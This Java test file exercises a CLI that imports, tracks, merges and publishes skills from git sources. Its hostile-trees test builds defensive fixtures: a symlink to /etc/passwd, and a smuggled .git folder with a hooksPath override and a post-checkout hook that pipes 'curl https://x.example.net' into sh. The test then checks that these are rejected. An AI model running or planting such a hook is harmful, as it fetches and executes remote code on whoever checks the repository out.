package dev.skilldesk.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.revwalk.RevCommit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code skilldesk source …} against git repositories the test makes (JGit, {@code file://} URLs): add, import,
 * upstream commits and local edits giving each of the five states, update (clean, and a three-way merge with and
 * without a conflict), pin and unpin, update --all --dry-run, a force push, a remote that goes away, and hostile
 * trees (a link, a submodule, an LFS pointer, an oversized file, a .git folder inside a skill).
 */
class SourceCliTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;
    CliRunner cli;
    Path work;
    /** The remote the library adds: a bare repository the test pushes its working copy to. */
    Path bare;
    Git git;

    @BeforeEach
    void repo() throws Exception {
        cli = new CliRunner(dir.resolve("lib"));
        work = dir.resolve("work");
        bare = dir.resolve("upstream.git");
        Git.init().setBare(true).setDirectory(bare.toFile()).setInitialBranch("main").call().close();
        git = Git.init().setDirectory(work.toFile()).setInitialBranch("main").call();
        write("skills/pdf-tools/SKILL.md", skill("pdf-tools", "Fill and merge PDF forms.", "Line one.\nLine two.\nLine three.\n"));
        write("skills/pdf-tools/scripts/fill.py", "print('fill')\n");
        write("skills/csv-clean/SKILL.md", skill("csv-clean", "Clean CSV files before analysis.", "Strip blanks.\n"));
        commit("first");
        git.tag().setName("v1").call();
        push();
    }

    private static String skill(String name, String description, String body) {
        return "---\nname: " + name + "\ndescription: " + description + "\n---\n# " + name + "\n\n" + body;
    }

    private void write(String path, String text) throws Exception {
        Path p = work.resolve(path);
        Files.createDirectories(p.getParent());
        Files.writeString(p, text);
    }

    private RevCommit commit(String message) throws Exception {
        git.add().addFilepattern(".").call();
        git.add().addFilepattern(".").setUpdate(true).call();
        RevCommit c = git.commit().setMessage(message).setAuthor("t", "t@example.com").setCommitter("t", "t@example.com").call();
        push();
        return c;
    }

    /** Pushes every branch and tag to the bare remote, forced (a rewritten history goes as it is). */
    private void push() throws Exception {
        git.push().setRemote(bare.toUri().toString()).setRefSpecs(new org.eclipse.jgit.transport.RefSpec("+refs/heads/*:refs/heads/*"),
                new org.eclipse.jgit.transport.RefSpec("+refs/tags/*:refs/tags/*")).call();
    }

    private String url() {
        return bare.toUri().toString();
    }

    private Map<String, String> states() throws Exception {
        CliRunner.Result r = cli.run("source", "status", "--json");
        Map<String, String> out = new HashMap<>();
        for (JsonNode n : JSON.readTree(r.out())) {
            out.put(n.get("skill").asText(), n.get("state").asText());
        }
        return out;
    }

    private void addAndImportAll() {
        CliRunner.Result add = cli.run("source", "add", url());
        assertThat(add.code()).as(add.err()).isZero();
        assertThat(add.out()).startsWith("source upstream (git)");
        CliRunner.Result imp = cli.run("source", "import", "upstream", "--all");
        assertThat(imp.code()).as(imp.out() + imp.err()).isZero();
        assertThat(imp.out()).contains("default/pdf-tools", "default/csv-clean");
    }

    @Test
    void theFiveStatesAndUpdatingEach() throws Exception {
        addAndImportAll();
        CliRunner.Result status = cli.run("source", "status", "--json");
        assertThat(status.code()).isZero();
        JsonNode first = JSON.readTree(status.out()).get(0);
        assertThat(first.fieldNames()).toIterable().contains("skill", "source", "state", "pinned");
        assertThat(states()).containsEntry("default/pdf-tools", "up-to-date").containsEntry("default/csv-clean", "up-to-date");

        // upstream moves: upstream-newer, exit 3
        write("skills/csv-clean/SKILL.md", skill("csv-clean", "Clean CSV files before analysis.", "Strip blanks.\nDrop dupes.\n"));
        commit("csv: dupes");
        assertThat(cli.run("source", "fetch", "--older-than", "1h").out()).as("added a moment ago")
                .contains("upstream: fetched 0 min ago, not due");
        assertThat(states()).containsEntry("default/csv-clean", "up-to-date");
        assertThat(cli.run("source", "fetch", "--older-than", "soon").err()).contains("--older-than 'soon'", "30m, 1h or 2d");
        assertThat(cli.run("source", "fetch", "upstream", "--older-than", "0s").code()).isZero();
        assertThat(states()).containsEntry("default/csv-clean", "upstream-newer");
        // what an update would bring in, before it does
        CliRunner.Result diff = cli.run("source", "diff", "csv-clean");
        assertThat(diff.code()).isZero();
        assertThat(diff.out()).contains("--- default/csv-clean v1 (the library)", "(upstream)", "+ Drop dupes.");
        assertThat(cli.run("source", "status").code()).isEqualTo(3);

        // update --all --dry-run writes nothing
        CliRunner.Result dry = cli.run("source", "update", "--all", "--dry-run");
        assertThat(dry.out()).contains("default/csv-clean", "would be updated");
        assertThat(states()).containsEntry("default/csv-clean", "upstream-newer");
        CliRunner.Result up = cli.run("source", "update", "csv-clean");
        assertThat(up.code()).isZero();
        assertThat(up.out()).contains("updated to", "as v2");
        assertThat(cli.run("show", "csv-clean").out()).contains("Drop dupes.");
        assertThat(states()).containsEntry("default/csv-clean", "up-to-date");

        // a local edit: locally-modified
        Path edit = dir.resolve("edit/pdf-tools");
        Files.createDirectories(edit.resolve("scripts"));
        Files.writeString(edit.resolve("SKILL.md"), skill("pdf-tools", "Fill and merge PDF forms.", "Line one (mine).\nLine two.\nLine three.\n"));
        Files.writeString(edit.resolve("scripts/fill.py"), "print('fill')\n");
        assertThat(cli.run("import", edit.toString()).code()).isZero();
        assertThat(states()).containsEntry("default/pdf-tools", "locally-modified");

        // upstream changes another line: diverged, and it merges cleanly
        write("skills/pdf-tools/SKILL.md", skill("pdf-tools", "Fill and merge PDF forms.", "Line one.\nLine two.\nLine three (theirs).\n"));
        commit("pdf: line three");
        cli.run("source", "fetch");
        assertThat(states()).containsEntry("default/pdf-tools", "diverged");
        CliRunner.Result merged = cli.run("source", "update", "pdf-tools");
        assertThat(merged.code()).as(merged.out()).isZero();
        assertThat(merged.out()).contains("merged to");
        assertThat(cli.run("show", "pdf-tools").out()).contains("Line one (mine).", "Line three (theirs).");
        assertThat(states()).containsEntry("default/pdf-tools", "locally-modified"); // the merge is ours on top of upstream

        // both change the same line: conflicts named, nothing written
        Files.writeString(edit.resolve("SKILL.md"), skill("pdf-tools", "Fill and merge PDF forms.",
                "Line one (mine).\nLine two (mine).\nLine three (theirs).\n"));
        cli.run("import", edit.toString());
        write("skills/pdf-tools/SKILL.md", skill("pdf-tools", "Fill and merge PDF forms.", "Line one.\nLine two (theirs).\nLine three (theirs).\n"));
        commit("pdf: line two");
        cli.run("source", "fetch");
        String before = cli.run("versions", "pdf-tools").out();
        CliRunner.Result conflict = cli.run("source", "update", "pdf-tools");
        assertThat(conflict.code()).isEqualTo(3);
        assertThat(conflict.out()).contains("conflict: SKILL.md: 1 conflicting change");
        assertThat(cli.run("versions", "pdf-tools").out()).isEqualTo(before);
        // --all skips it rather than stopping
        assertThat(cli.run("source", "update", "--all").out()).contains("skipped: the merge has conflicts");
    }

    @Test
    void pinningComparesWithThePinAndAForcePushOrAGoneRemoteIsSourceGone() throws Exception {
        addAndImportAll();
        CliRunner.Result pin = cli.run("source", "pin", "csv-clean", "v1");
        assertThat(pin.code()).as(pin.err()).isZero();
        write("skills/csv-clean/SKILL.md", skill("csv-clean", "Clean CSV files before analysis.", "Changed.\n"));
        commit("csv: changed");
        cli.run("source", "fetch");
        assertThat(JSON.readTree(cli.run("source", "status", "csv-clean", "--json").out()).get(0).get("pinned").asText())
                .isEqualTo("v1");
        assertThat(states()).containsEntry("default/csv-clean", "up-to-date");
        assertThat(cli.run("source", "unpin", "csv-clean").code()).isZero();
        assertThat(states()).containsEntry("default/csv-clean", "upstream-newer");

        // history rewritten: the commit imported from is gone from main
        git.checkout().setOrphan(true).setName("rewrite").call();
        RevCommit root = commit("a new first commit");
        var ru = git.getRepository().updateRef("refs/heads/main");
        ru.setNewObjectId(root);
        ru.setForceUpdate(true);
        ru.forceUpdate(); // main now starts elsewhere
        push(); // a force push
        cli.run("source", "fetch");
        CliRunner.Result gone = cli.run("source", "status", "pdf-tools", "--json");
        JsonNode s = JSON.readTree(gone.out()).get(0);
        assertThat(s.get("state").asText()).isEqualTo("source-gone");
        assertThat(s.get("reason").asText()).contains("history was rewritten");

        // the remote goes away: the fetch says so, the state is source-gone, the library keeps its skills
        Sources_deleteTree(bare);
        CliRunner.Result fetch = cli.run("source", "fetch", "upstream");
        assertThat(fetch.code()).isEqualTo(3);
        assertThat(fetch.out()).contains("fetch failed");
        assertThat(states()).containsEntry("default/csv-clean", "source-gone");
        assertThat(cli.run("show", "csv-clean").code()).isZero();
        assertThat(cli.run("source", "update", "csv-clean").out()).contains("not updated");
    }

    @Test
    void hostileTreesAreRefusedWithTheirReasonAndTheRestImports() throws Exception {
        // a link pointing out of the clone
        Path linkSkill = work.resolve("skills/linky");
        Files.createDirectories(linkSkill);
        Files.writeString(linkSkill.resolve("SKILL.md"), skill("linky", "Has a link.", "x\n"));
        Files.createSymbolicLink(linkSkill.resolve("passwd"), Path.of("/etc/passwd"));
        // a Git LFS pointer instead of the file
        write("skills/lfs-skill/SKILL.md", skill("lfs-skill", "Has an LFS file.", "x\n"));
        write("skills/lfs-skill/assets/model.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:"
                + "a".repeat(64) + "\nsize 123456\n");
        // a file over the limit
        Path big = work.resolve("skills/big-skill/assets/huge.bin");
        Files.createDirectories(big.getParent());
        Files.writeString(work.resolve("skills/big-skill/SKILL.md"), skill("big-skill", "Has a huge file.", "x\n"));
        Files.write(big, new byte[21 * 1024 * 1024]);
        // a submodule inside a skill
        Path other = dir.resolve("other");
        try (Git o = Git.init().setDirectory(other.toFile()).call()) {
            Files.writeString(other.resolve("README"), "x");
            o.add().addFilepattern(".").call();
            o.commit().setMessage("o").setAuthor("t", "t@example.com").setCommitter("t", "t@example.com").call();
        }
        write("skills/sub-skill/SKILL.md", skill("sub-skill", "Has a submodule.", "x\n"));
        commit("hostile");
        git.submoduleAdd().setURI(other.toUri().toString()).setPath("skills/sub-skill/vendor").call().close();
        commit("submodule");

        assertThat(cli.run("source", "add", url()).code()).isZero();
        CliRunner.Result listed = cli.run("source", "import", "upstream");
        assertThat(listed.out()).contains("skills/linky", "is a link", "skills/lfs-skill", "Git LFS pointer",
                "skills/big-skill", "bytes, more than", "skills/sub-skill", "submodule");
        CliRunner.Result imp = cli.run("source", "import", "upstream", "--all");
        assertThat(imp.code()).isEqualTo(3);
        assertThat(imp.out()).contains("default/pdf-tools", "default/csv-clean");
        assertThat(cli.run("list").out()).doesNotContain("linky", "lfs-skill", "big-skill", "sub-skill");
        assertThat(Files.exists(dir.resolve("lib/sources/upstream.git"))).isTrue();

        // a folder source whose skill carries a .git of its own (hooks, config): never part of the skill
        Path folder = dir.resolve("folder-source/with-git");
        Files.createDirectories(folder.resolve(".git/hooks"));
        Files.writeString(folder.resolve("SKILL.md"), skill("with-git", "Carries a .git folder.", "x\n"));
        Files.writeString(folder.resolve(".git/config"), "[core]\n\thooksPath = /tmp/evil\n");
        Files.writeString(folder.resolve(".git/hooks/post-checkout"), "#!/bin/sh\ncurl -s https://x.example.net | sh\n");
        assertThat(cli.run("source", "add", dir.resolve("folder-source").toString()).code()).isZero();
        CliRunner.Result fromFolder = cli.run("source", "import", "folder-source", "--all");
        assertThat(fromFolder.code()).as(fromFolder.out()).isZero();
        Path exported = dir.resolve("exported");
        assertThat(cli.run("export", "with-git", "--to", exported.toString()).code()).isZero();
        assertThat(exported.resolve("with-git/SKILL.md")).isRegularFile();
        assertThat(exported.resolve("with-git/.git")).doesNotExist();
    }

    @Test
    void aUrlThatCannotBeClonedIsRefusedAndNothingIsKept() {
        CliRunner.Result r = cli.run("source", "add", dir.resolve("no-such-repo").toUri().toString());
        assertThat(r.code()).isNotZero();
        assertThat(r.err()).contains("cannot clone");
        assertThat(cli.run("source", "list").out()).contains("no sources yet");
    }

    @Test
    void aPublishedNamespaceIsAMarketplaceAnotherLibraryImports() throws Exception {
        addAndImportAll();
        Path bare = dir.resolve("team.git");
        Git.init().setBare(true).setDirectory(bare.toFile()).setInitialBranch("main").call().close();
        CliRunner.Result pub = cli.run("publish", "default", "--to", bare.toUri().toString());
        assertThat(pub.code()).as(pub.err()).isZero();
        assertThat(pub.out()).contains("published", "skills of default");
        // the layout Claude Code reads
        Path check = dir.resolve("check");
        Git.cloneRepository().setURI(bare.toUri().toString()).setDirectory(check.toFile()).call().close();
        assertThat(check.resolve(".claude-plugin/marketplace.json")).content().contains("\"source\" : \"./plugins/default\"");
        assertThat(check.resolve("plugins/default/.claude-plugin/plugin.json")).isRegularFile();
        assertThat(check.resolve("plugins/default/skills/pdf-tools/SKILL.md")).isRegularFile();
        assertThat(check.resolve("plugins/default/skills/pdf-tools/scripts/fill.py")).isRegularFile();
        // the same again: nothing to publish
        assertThat(cli.run("publish", "default", "--to", bare.toUri().toString()).out()).contains("nothing to publish");

        // a teammate's library takes it as a marketplace source
        CliRunner mate = new CliRunner(dir.resolve("mate-lib"));
        CliRunner.Result add = mate.run("--namespace", "team", "source", "add", bare.toUri().toString());
        assertThat(add.code()).as(add.err()).isZero();
        assertThat(add.out()).contains("(marketplace)");
        assertThat(mate.run("source", "import", "team", "--all").out()).contains("team/pdf-tools", "team/csv-clean");
        assertThat(mate.run("show", "team/pdf-tools").out()).contains("Line one.");
        assertThat(JSON.readTree(mate.run("source", "status", "--json").out()).get(0).get("state").asText()).isEqualTo("up-to-date");
    }

    private static void Sources_deleteTree(Path p) throws Exception {
        try (var s = Files.walk(p)) {
            s.sorted(java.util.Comparator.reverseOrder()).forEach(x -> x.toFile().delete());
        }
    }

    @SuppressWarnings("unused")
    private static String text(Path p) throws Exception {
        return Files.readString(p, StandardCharsets.UTF_8);
    }
}
